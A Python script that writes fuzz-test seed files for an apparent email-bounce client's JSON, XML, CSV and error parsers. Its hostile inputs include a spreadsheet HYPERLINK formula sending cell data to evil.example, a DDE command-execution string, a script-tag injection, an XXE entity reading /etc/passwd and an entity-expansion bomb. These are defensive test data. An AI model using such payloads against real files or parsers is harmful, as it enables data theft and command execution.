#!/usr/bin/env python3
"""Writes the seed corpus of every fuzz target into tests/fuzz/corpus/<target>/.

The seeds are the response shapes BounceDesk meets (the seed page's examples, every error shape of
docs/api-notes.md, ISO-8859-1 XML, proxy pages) and hostile strings. The files are committed; run
this again after changing it. Input formats are described in fuzzchecks.h:
  bounces_json, bounces_xml: byte 0 = how many chunk-length bytes follow, then those, then the body
  customers, api_errors:     the body as is
  csv_writer:                byte 0 = options, byte 1 = device parameter, fields split by 0x1F
"""
import pathlib
import shutil

HERE = pathlib.Path(__file__).resolve().parent
CORPUS = HERE / "corpus"

SEED_JSON = b"""[
  {
    "email": "email1@domain.com",
    "status": "5.1.1",
    "reason": "host [127.0.0.1] said: 550 5.1.1 unknown or illegal user: email1@domain.com",
    "created": "2009-06-01 19:41:39"
  },
  {
    "email": "email2@domain2.com",
    "status": "5.1.1",
    "reason": "host [127.0.0.1] said: 550 5.1.1 unknown or illegal user: email2@domain2.com",
    "created": "2009-06-01 19:41:39"
  }
]
"""

SEED_XML = b"""<bounces>
   <bounce>
      <email>email1@domain.com</email>
      <status>5.1.1</status>
      <reason>host [127.0.0.1] said: 550 5.1.1 unknown or illegal user: email1@domain.com</reason>
      <created>2009-06-10 12:40:30</created>
   </bounce>
   <bounce>
      <email>email2@domain2.com</email>
      <status>5.1.1</status>
      <reason>host [127.0.0.1] said: 550 5.1.1 unknown or illegal user: email2@domain2.com</reason>
      <created>2009-06-10 12:40:30</created>
   </bounce>
</bounces>
"""

# Every error shape of api-notes.md, and what proxies and odd servers send instead.
ERRORS = {
    "error_documented.json": b'{"message":"error","errors":["Bad username / password"]}',
    "error_401_object.json": b'{"error":{"code":401,"message":"Permission denied, wrong credentials"}}',
    "error_string.json": b'{"error":"Bad username / password"}',
    "error_reordered.json": b'{"errors":["Bad username / password"],"message":"error"}',
    "error_429.json": b'{"errors":[{"field":null,"message":"too many requests"}]}',
    "error_no_words.json": b'{"message":"error"}',
    "error_code_only.json": b'{"error":{"code":500}}',
    "error_map.json": b'{"errors":{"user":"does not exist","email":"is required"}}',
    "error_many.json": b'{"message":"error","errors":["a","b","a",""," c "]}',
    "error_documented.xml": b"<result><message>error</message><errors><error>Bad username / password"
                            b"</error></errors></result>\n",
    "error_bare.xml": b"<error>Permission denied</error>",
    "error_errors_root.xml": b"<errors><error>one</error><error>two</error></errors>",
    "error_latin1.xml": b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<result><message>error'
                        b"</message><errors><error>Kunde \xfcnbekannt</error></errors></result>",
    "proxy_502.html": b"<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n"
                      b"<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n"
                      b"</body>\r\n</html>\r\n",
    "proxy_503_doctype.html": b"<!DOCTYPE html><html><head><title>Service Unavailable</title>"
                              b"</head><body>Try later</body></html>",
    "plain_text.txt": b"Service Unavailable",
    "empty.txt": b"",
    "white_space.txt": b" \r\n\t ",
    "bom_error.json": b'\xef\xbb\xbf {"message":"error","errors":["with a BOM"]}',
    "truncated_error.json": b'{"message":"error","errors":["cut',
}

DELETES = {
    "delete_success.json": b'{\n  "message": "success"\n}\n',
    "delete_success.xml": b"<result>\n   <message>success</message>\n</result>\n",
    "delete_not_on_list.json": b'{"message":"Email does not exist"}',
    "delete_not_on_list.xml": b"<result><message>Email does not exist.</message></result>",
    "delete_other.json": b'{"message":"queued"}',
    "delete_nested.xml": b"<result><x><message>error</message></x><message>success</message></result>",
}

HOSTILE = [
    b'=HYPERLINK("http://evil.example/?"&A1,"click")',
    b"+cmd|' /C calc'!A0",
    b"-2+3",
    b"@SUM(1,2)",
    b"\tstarts with a tab",
    b"\r\nstarts with CRLF",
    b'quote " and comma , and "double ""quotes""',
    b"<script>alert(1)</script><b>bold</b>",
    b"\xe4\xb8\xad\xe6\x96\x87 \xf0\x9f\x98\x80 caf\xc3\xa9",
    b"latin-1 caf\xe9 and a stray \x80 and \xc3 cut",
    b"nul \x00 inside",
    b"\xef\xbb\xbf" b"bom inside a field",
    b"\\ back\\slash \\u0041 \\",
    b"\u202eevil\u202c".decode("unicode_escape").encode("utf-8"),
]


def json_string(raw: bytes) -> bytes:
    out = bytearray(b'"')
    for b in raw:
        if b in (0x22, 0x5C):
            out += b"\\" + bytes([b])
        elif b < 0x20:
            out += b"\\u%04x" % b
        else:
            out.append(b)
    return bytes(out + b'"')


def xml_text(raw: bytes) -> bytes:
    return (raw.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")
            .replace(b"\x00", b"").replace(b"\x80", b"").replace(b"\xe9", b"&#233;"))


def json_bodies():
    hostile_rows = b",\n".join(
        b'{"email":"h%d@example.com","status":"5.1.1","reason":%s,"created":"2020-02-29 23:59:59"}'
        % (i, json_string(h)) for i, h in enumerate(HOSTILE))
    bodies = {
        "seed_page.json": SEED_JSON,
        "compact.json": b'[{"email":"a@b.com","status":"5.1.1","reason":"r","created":"c"}]',
        "empty_list.json": b" \r\n[ ]\n",
        "bom.json": b'\xef\xbb\xbf[{"email":"a@b"}]',
        "number_status_nulls.json": b'[{"email":"a@b","status":550,"reason":null,"created":null},'
                                    b'{"email":"c@d","status":4.0,"reason":true}]',
        "no_created.json": b'[{"email":"a@b","status":"5.1.1","reason":"r"}]',
        "unknown_nested.json": b'[{"id":7,"extra":{"n":[1,{"x":"}]"}]},"email":"a@b","n":-1.5e3,'
                               b'"s":"[{\\"}"}]',
        "escapes.json": b'[{"email":"a\\u0040b.com","reason":"\\ud83d\\ude00 \\ud800 lone '
                        b'\\"q\\" \\\\ \\/ \\b\\f\\n\\r\\t \\u00e9"}]',
        "invalid_utf8.json": b'[{"email":"a@b","reason":"caf\xe9 \xc3\x28 \xed\xa0\x80 \xf4\x90\x80\x80"}]',
        "hostile.json": b"[\n" + hostile_rows + b"\n]\n",
        "no_email.json": b'[{"status":"5.1.1"}]',
        "missing_comma.json": b'[{"email":"a@b"} {"email":"c@d"}]',
        "trailing_comma.json": b'[{"email":"a@b"},]',
        "not_object_row.json": b'[{"email":"a@b"},"x",3]',
        "closed_by_brace.json": b'[{"email":"a@b"}}',
        "truncated.json": SEED_JSON[:200],
        "trailing_garbage.json": b'[{"email":"a@b"}] x',
        "backslash_run.json": b'[{"email":"a@b","reason":"' + b"\\\\" * 40 + b'\\"' + b'"}]',
        "bad_escape.json": b'[{"email":"a@b","reason":"\\x41"}]',
        "object_value.json": b'[{"email":{"x":1}}]',
        "big_row.json": b'[{"email":"big@example.com","reason":"' + b"x{[\\\"" * 300 + b'"}]',
    }
    bodies.update(ERRORS)
    bodies["seed_page.xml"] = SEED_XML
    return bodies


def xml_bodies():
    hostile_rows = b"".join(
        b"<bounce><email>h%d@example.com</email><status>5.1.1</status><reason>%s</reason>"
        b"<created>2020-02-29 23:59:59</created></bounce>\n" % (i, xml_text(h))
        for i, h in enumerate(HOSTILE))
    bodies = {
        "seed_page.xml": SEED_XML,
        "declaration.xml": b'<?xml version="1.0" encoding="UTF-8"?>\n' + SEED_XML,
        "latin1.xml": b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<bounces><bounce>'
                      b"<email>m\xfcller@example.de</email><status>5.1.1</status>"
                      b"<reason>Empf\xe4nger unbekannt \xa7 550</reason></bounce></bounces>\n",
        "stray_latin1_in_utf8.xml": b"<bounces><bounce><email>a@b</email><reason>caf\xe9 \xc3</reason>"
                                    b"</bounce></bounces>",
        "bom.xml": b"\xef\xbb\xbf<bounces><bounce><email>a@b</email></bounce></bounces>",
        "empty_list.xml": b"<bounces/>",
        "cdata_entities.xml": b"<bounces><bounce><email>a&amp;b@c</email><reason><![CDATA[<b>x</b>]]>"
                              b" &lt;&#x41;&#233;&quot;</reason><!-- c --><?pi x?></bounce></bounces>",
        "unknown_elements.xml": b"<bounces><meta/><bounce><id>1</id><email>a@b</email><x><email>n"
                                b"</email></x></bounce></bounces>",
        "hostile.xml": b"<bounces>\n" + hostile_rows + b"</bounces>\n",
        "no_email.xml": b"<bounces><bounce><status>5.1.1</status></bounce></bounces>",
        "truncated.xml": SEED_XML[:300],
        "mismatched.xml": b"<bounces><bounce><email>a@b</bounce></email></bounces>",
        "other_root.xml": b"<users><user><username>x</username></user></users>",
        "doctype_html.xml": b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x"><html><head>'
                            b"<title>Gateway</title></head></html>",
        "entity_bomb.xml": b'<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
                           b']><bounces><bounce><email>&b;</email></bounce></bounces>',
        "utf16.xml": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><bounces><bounce><email>a@b</email>"
                     "</bounce></bounces>".encode("utf-16"),
        "utf16be.xml": "\ufeff<bounces><bounce><email>j\u00e9r\u00f4me@b</email><reason>\U0001F600"
                       "</reason></bounce></bounces>".encode("utf-16-be"),
        "windows1252.xml": b'<?xml version="1.0" encoding="windows-1252"?><bounces><bounce><email>'
                           b"a@b</email><reason>\x80 \xe9</reason></bounce></bounces>",
        "external_entity.xml": b'<!DOCTYPE b [<!ENTITY e SYSTEM "file:///etc/passwd">]><bounces>'
                               b"<bounce><email>a@b</email><reason>&e;</reason></bounce></bounces>",
        "many_attributes.xml": b"<bounces><bounce><email>a@b</email><x"
                               + b"".join(b" a%d='v'" % i for i in range(300))
                               + b"/></bounce></bounces>",
    }
    bodies.update(ERRORS)
    bodies["seed_page.json"] = SEED_JSON
    return bodies


def customer_bodies():
    users = (b'[{"id":1,"username":"acme","email":"ops@acme.example","active":"true",'
             b'"first_name":"Ada","last_name":"Lovelace","address":"1 Way","city":"X","state":"Y",'
             b'"zip":"1","country":"GB","phone":"1","website":"http://acme.example"},'
             b'{"username":"noid","email":"n@example.com","active":"false"},'
             b'{"id":"7","username":"num","active":0},{"username":"b","active":true}]')
    users_xml = (b"<users><user><id>1</id><username>acme</username><email>ops@acme.example</email>"
                 b"<active>true</active><first_name>Ada</first_name><last_name>Lovelace</last_name>"
                 b"</user><user><username>noid</username><active>false</active></user>"
                 b"<other/></users>")
    bodies = {
        "users.json": users,
        "users.xml": users_xml,
        "users_latin1.xml": b'<?xml version="1.0" encoding="ISO-8859-1"?><users><user><username>'
                            b"m\xfcller</username><first_name>J\xfcrgen</first_name></user></users>",
        "users_empty.json": b"[]",
        "users_empty.xml": b"<users></users>",
        "user_without_name.json": b'[{"email":"a@b"}]',
        "user_not_object.json": b'[1,"x"]',
        "users_object.json": b'{"users":[]}',
        "users_hostile.json": b"[" + b",".join(
            b'{"username":%s,"first_name":%s}' % (json_string(h), json_string(h)) for h in HOSTILE
            if h.strip()) + b"]",
        "users_bad_json.json": b'[{"username":"a",}]',
        "users_nested.xml": b"<users><user><username>a<b>c</b></username><x><y/></x></user></users>",
    }
    bodies.update(ERRORS)
    return bodies


def chunked(body: bytes, lengths) -> bytes:
    return bytes([len(lengths)] + [n - 1 for n in lengths]) + body


def csv_seed(options: int, parameter: int, fields) -> bytes:
    return bytes([options, parameter]) + b"\x1f".join(fields)


def write(target: str, files: dict):
    folder = CORPUS / target
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


def main():
    # Chunkings: whole, byte by byte, a length that drifts across 64-byte blocks, mixed.
    recipes = {"whole": [256], "bytes": [], "drift": [63], "mixed": [1, 64, 7, 200]}
    for target, bodies in (("bounces_json", json_bodies()), ("bounces_xml", xml_bodies())):
        files = {}
        for index, (name, body) in enumerate(sorted(bodies.items())):
            recipe = list(recipes)[index % len(recipes)]
            files[f"{recipe}-{name}"] = chunked(body, recipes[recipe])
        files["bytes-seed_page_again"] = chunked(SEED_JSON if target == "bounces_json" else SEED_XML, [])
        write(target, files)

    write("customers", customer_bodies())

    errors = dict(ERRORS)
    errors.update(DELETES)
    errors["seed_page.json"] = SEED_JSON
    errors["seed_page.xml"] = SEED_XML
    write("api_errors", errors)

    seed_row = [b"email1@domain.com", b"5.1.1",
                b"host [127.0.0.1] said: 550 5.1.1 unknown or illegal user: email1@domain.com",
                b"2009-06-01 19:41:39"]
    write("csv_writer", {
        "seed_row_neutralised": csv_seed(0x01, 0, seed_row),
        "seed_row_bom_bounce": csv_seed(0x07, 0, seed_row * 2),
        "hostile_neutralised": csv_seed(0x01, 0, HOSTILE + [b""] * 2),
        "hostile_raw_trickle": csv_seed(0x08, 3, HOSTILE + [b""] * 2),
        "hostile_bounce_disk_full": csv_seed(0x15, 9, HOSTILE + [b""] * 2),
        "empty_fields": csv_seed(0x01, 0, [b"", b"", b"", b"", b"a"]),
        "header_only": csv_seed(0x03, 0, []),
        "huge_row": csv_seed(0x61, 0, seed_row),
        "huge_rows_disk_full": csv_seed(0x71, 100, seed_row * 3),
    })


if __name__ == "__main__":
    main()
